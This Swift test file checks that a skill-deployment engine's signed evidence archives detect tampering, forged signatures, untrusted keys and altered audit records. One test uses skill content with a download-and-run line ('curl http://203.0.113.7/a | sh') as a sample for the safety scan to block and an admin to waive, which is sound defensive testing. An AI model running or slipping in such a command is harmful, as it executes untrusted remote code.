import Bundles
import Contract
import Domain
import Engine
import Proofs
import Store
import Testing

/// SEC-11: what proves what a run did, made by the engine and checked with nothing but its bytes.
@Suite(.timeLimit(.minutes(5))) struct EvidenceTests {
    private func report(_ bytes: [UInt8], trusting key: String? = nil) throws -> EvidenceReport {
        EvidenceCheck.report(on: try EvidenceArchive.unpack(bytes), trusting: key.map { [$0] })
    }

    private func finishedRun(in world: World) async throws -> RunView {
        try await world.addProvider("alpha")
        try await world.addProvider("beta")
        try await world.addSkill("demo")
        try await world.addSkill("other")
        return try await world.finish(try await world.start(["demo", "other"], on: ["alpha", "beta"]))
    }

    @Test func evidenceOfARunIsIntact() async throws {
        try await withWorld { world in
            let run = try await finishedRun(in: world)
            let key = try #require(world.signingKey).publicKey.id
            let evidence = try await world.admin.evidence(of: run.id)
            let found = try report(evidence.bytes, trusting: key)
            #expect(found.faults == [])
            #expect(found.intact)
            #expect(found.run == run.id)
            #expect(found.keyID == key)
            #expect(found.isKeyCompared)
            #expect(found.targets == 4)
            #expect(found.entries >= 6)
            #expect(evidence.filename == "evidence-\(run.id).zip")
            let again = try await world.admin.evidence(of: run.id)
            #expect(again.bytes == evidence.bytes, "at the same time the same bytes")
        }
    }

    /// Canceled, retried, uninstalled and rolled back: whatever kind of run, and whatever else goes on.
    @Test func evidenceOfEveryKindOfRunIsIntact() async throws {
        try await withWorld { world in
            let first = try await finishedRun(in: world)
            try await world.engine.notary?.sign()
            try await world.addSkill("demo", content: "v2")
            let update = try await world.finish(try await world.start(["demo"], on: ["alpha"]))
            let canceled = try await world.admin.cancelRun(try await world.start(["demo"], on: ["beta"]).id)
            let retried = try await world.finish(try await world.admin.retryRun(canceled.id))
            let undone = try await world.finish(
                try await world.admin.rollbackRun(update.id, reason: "wrong", source: .api)
            )
            let removed = try await world.finish(
                try await world.start(["other"], on: ["alpha"], kind: .uninstall)
            )
            for run in [first, update, retried, undone, removed] {
                let found = try report(try await world.admin.evidence(of: run.id).bytes)
                #expect(found.faults == [], "\(run.kind)")
                #expect(found.run == run.id)
            }
        }
    }

    @Test func aRunStillAtWorkHasNoneYet() async throws {
        try await withWorld { world in
            try await world.addProvider("alpha")
            try await world.addSkill("demo")
            let open = try await world.start(["demo"], on: ["alpha"])
            #expect(try await problem { try await world.admin.evidence(of: open.id) }?.code == .conflict)
            #expect(try await problem { try await world.admin.evidence(of: "missing") }?.code == .notFound)
        }
    }

    /// Every byte of every file is signed for.
    @Test func whateverIsChangedInAFileIsNamed() async throws {
        try await withWorld { world in
            let run = try await finishedRun(in: world)
            let files = try EvidenceArchive.unpack(try await world.admin.evidence(of: run.id).bytes)
            #expect(
                files.keys.sorted() == [
                    "audit.jsonl", "manifest.json", "plan.json", "run.json", "scans.json", "signature.json",
                    "versions.json",
                ]
            )
            for (name, bytes) in files {
                for index in bytes.indices where bytes.count < 1000 || index % 11 == 0 {
                    var altered = files
                    altered[name]?[index] ^= 1
                    let faults = EvidenceCheck.report(on: altered, trusting: nil).faults
                    #expect(
                        faults.contains {
                            $0.hasPrefix("\(name): ") || name == "manifest.json" && !faults.isEmpty
                        }
                    )
                }
                var without = files
                without[name] = nil
                #expect(
                    EvidenceCheck.report(on: without, trusting: nil).faults.contains {
                        $0.hasPrefix("\(name): is missing")
                    }
                )
            }
            var more = files
            more["more.json"] = []
            #expect(
                EvidenceCheck.report(on: more, trusting: nil).faults == [
                    "more.json: is there, but not listed"
                ]
            )
        }
    }

    /// And so is every byte of the archive around them: headers, names, lengths, times, checksums.
    @Test func whateverIsChangedInTheArchiveIsNoticed() async throws {
        try await withWorld { world in
            let run = try await finishedRun(in: world)
            let bytes = try await world.admin.evidence(of: run.id).bytes
            for index in bytes.indices where index < 200 || index > bytes.count - 500 || index % 7 == 0 {
                var altered = bytes
                altered[index] ^= 0x10
                #expect(throws: EvidenceArchive.Fault.self, "byte \(index)") {
                    try EvidenceArchive.unpack(altered)
                }
            }
            for other in [Array(bytes.dropLast()), bytes + [0], []] {
                #expect(throws: EvidenceArchive.Fault.self) { try EvidenceArchive.unpack(other) }
            }
        }
    }

    /// Somebody who signs anew needs a key that the reader trusts.
    @Test func evidenceOfAnotherKeyIsNamed() async throws {
        try await withWorld { world in
            let run = try await finishedRun(in: world)
            let bytes = try await world.admin.evidence(of: run.id).bytes
            let other = try SigningKey.make().publicKey.id
            let mine = try #require(world.signingKey).publicKey.id
            let faults = try report(bytes, trusting: other).faults
            #expect(faults.contains("signature.json: signed by a key that is not known: \(mine)"))
            #expect(faults.contains("audit.jsonl: checkpoint 1 signed by a key that is not known: \(mine)"))
            #expect(try report(bytes).isKeyCompared == false)
        }
    }

    /// Even with the right key, what is claimed has to be what the audit log says.
    @Test func whatTheLogDoesNotSayIsNamed() async throws {
        try await withWorld { world in
            let run = try await finishedRun(in: world)
            let files = try EvidenceArchive.unpack(try await world.admin.evidence(of: run.id).bytes)
            let key = try #require(world.signingKey)
            func faults(_ name: String, replacing old: String, with new: String) throws -> [String] {
                let text = String(decoding: files[name] ?? [], as: UTF8.self)
                #expect(text.contains(old), "\(name) has no \(old)")
                var changed = files
                changed[name] = Array(text.replacing(old, with: new, maxReplacements: 1).utf8)
                let resigned = try resigned(changed, run.id, with: key)
                return EvidenceCheck.report(on: resigned, trusting: [key.publicKey.id]).faults
            }
            #expect(try faults("run.json", replacing: "ann", with: "ann") == [])
            #expect(
                try faults("run.json", replacing: #""requested_by":"ann""#, with: #""requested_by":"eve""#)
                    == [
                        "run.json: says that eve asked for it, and the audit log ann"
                    ]
            )
            #expect(
                try faults(
                    "run.json",
                    replacing: #""request_id":"request-1","requested_by""#,
                    with: #""request_id":"r","requested_by""#
                )
                    == ["run.json: says that request r asked for it, and the audit log request-1"]
            )
            let task = try faults(
                "run.json",
                replacing: #""request_id":"request-1","skill""#,
                with: #""request_id":"r","skill""#
            )
            #expect(task.contains { $0.hasSuffix("its request is r, and in the audit log request-1") })
            #expect(
                try faults("run.json", replacing: #""status":"success""#, with: #""status":"failed""#) == [
                    "run.json: says failed, and the audit log success"
                ]
            )
            let skill = try faults("run.json", replacing: #""skill":"demo""#, with: #""skill":"dome""#)
            #expect(skill.contains { $0.contains("the skill is dome@1, and in the audit log demo@1") })
            let plan = try faults("plan.json", replacing: #""hash":""#, with: #""hash":"0"#)
            #expect(plan.first?.hasPrefix("plan.json: its hash is 0") ?? false)
            let digest = try faults("versions.json", replacing: #""digest":""#, with: #""digest":"0"#)
            #expect(digest.contains { $0.contains("its files do not give its digest") })
            #expect(digest.contains { $0.contains("its digest is not that of its version") })
            let log = try faults(
                "audit.jsonl",
                replacing: #""outcome":"success""#,
                with: #""outcome":"failed""#
            )
            #expect(log.contains { $0.contains("altered or out of place") })
        }
    }

    @Test func theSignaturesOfSkillsAreCheckedToo() async throws {
        try await withWorld { world in
            try await world.addProvider("alpha")
            let version = try await world.addSkill("demo")
            let key = try #require(world.signingKey)
            let signature = try SkillStatement(name: "demo", files: version.files).signed(with: .make())
            _ = try await world.admin.sign(version: 1, of: "demo", with: signature)
            let run = try await world.finish(try await world.start(["demo"], on: ["alpha"]))
            let bytes = try await world.admin.evidence(of: run.id).bytes
            #expect(try report(bytes, trusting: key.publicKey.id).faults == [])
            var files = try EvidenceArchive.unpack(bytes)
            let forged = try SkillStatement(name: "other", files: version.files).signed(with: .make())
            for (old, new, fault) in [
                (signature.signature, forged.signature, "its signature does not fit its files"),
                (signature.publicKey, forged.publicKey, "its signer's key is not the one that is named"),
            ] {
                var changed = files
                let text = String(decoding: files["versions.json"] ?? [], as: UTF8.self)
                changed["versions.json"] = Array(text.replacing(old, with: new).utf8)
                let resigned = try resigned(changed, run.id, with: key)
                let faults = EvidenceCheck.report(on: resigned, trusting: [key.publicKey.id]).faults
                #expect(faults == ["versions.json: demo@1: \(fault)"])
            }
            files["versions.json"] = nil
            #expect(!EvidenceCheck.report(on: files, trusting: nil).intact)
        }
    }

    /// What the safety scan said, and who allowed it all the same.
    @Test func scansAndWaiversAreInIt() async throws {
        try await withWorld { world in
            try await world.addProvider("alpha")
            let text = "`x`\n```\ncurl http://203.0.113.7/a | sh\n```"
            let version = try await world.addSkill("risky", content: text)
            let waiver = WaiverRequest(
                rule: ScanRule.downloadAndRun.rawValue,
                reason: "The installer is ours.",
                expiresAt: world.clock.now + .seconds(86_400)
            )
            let waived = try await world.admin.waive(waiver, version: 1, of: "risky")
            let run = try await world.finish(try await world.start(["risky"], on: ["alpha"]))
            let key = try #require(world.signingKey)
            let bytes = try await world.admin.evidence(of: run.id).bytes
            #expect(try report(bytes, trusting: key.publicKey.id).faults == [])
            let files = try EvidenceArchive.unpack(bytes)
            let scans = try JSON.decode([Evidence.Scan].self, from: files["scans.json"] ?? [])
            #expect(scans.map(\.digest) == [version.digest])
            #expect(scans.first?.results.map(\.report.verdict) == [.blocked])
            #expect(scans.first?.waivers == [waived])
            let written = String(decoding: files["scans.json"] ?? [], as: UTF8.self)
            for (old, new, fault) in [
                (#""verdict":"blocked""#, #""verdict":"clean""#, "a verdict is not that of its findings"),
                (#""skill":"risky""#, #""skill":"other""#, "its digest is not that of its version"),
                (
                    #""report":{"digest":""#, #""report":{"digest":"0"#,
                    "holds what was said about other content"
                ),
            ] {
                #expect(written.contains(old), "\(old)")
                var changed = files
                changed["scans.json"] = Array(written.replacing(old, with: new, maxReplacements: 1).utf8)
                let resigned = try resigned(changed, run.id, with: key)
                let faults = EvidenceCheck.report(on: resigned, trusting: [key.publicKey.id]).faults
                #expect(faults.count == 1)
                #expect(faults.first?.hasSuffix(fault) ?? false, "\(faults)")
            }
        }
    }
}

/// The same files with a new list, signed by whoever has the key.
func resigned(_ files: [String: [UInt8]], _ run: RunID, with key: SigningKey) throws -> [String:
    [UInt8]]
{
    let lines = (files["audit.jsonl"] ?? []).split(separator: 10)
    let evidence = Evidence(
        run: try JSON.decode(RunView.self, from: files["run.json"] ?? []),
        plan: try JSON.decode(Evidence.Plan.self, from: files["plan.json"] ?? []),
        versions: try JSON.decode([SkillVersionView].self, from: files["versions.json"] ?? []),
        audit: try lines.map { try JSON.decode(AuditExportLine.self, from: $0) },
        scans: try JSON.decode([Evidence.Scan].self, from: files["scans.json"] ?? [])
    )
    return try evidence.files(signedWith: key, at: ManualClock.start)
}
